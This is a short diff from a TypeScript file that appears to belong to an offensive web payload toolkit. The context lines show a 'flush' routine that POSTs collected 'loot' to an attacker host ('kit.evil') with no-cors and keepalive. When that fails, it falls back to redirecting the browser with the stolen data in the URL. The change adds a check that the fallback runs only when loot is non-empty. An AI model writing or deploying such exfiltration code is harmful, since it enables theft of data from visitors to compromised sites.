@@ -25,7 +25,7 @@ export function compile(payload: Payload, params: Readonly<Record<string, string
     async flush() {
       const body = JSON.stringify({ loot })
       try { await native(kit.evil + '/loot', { method: 'POST', mode: 'no-cors', body, keepalive: true }) }
-      catch { location.assign(kit.evil + '/loot?d=' + encodeURIComponent(body)) }
+      catch { if (Object.keys(loot).length > 0) location.assign(kit.evil + '/loot?d=' + encodeURIComponent(body)) }
     },
   }
   const run = ${payload.toString()}
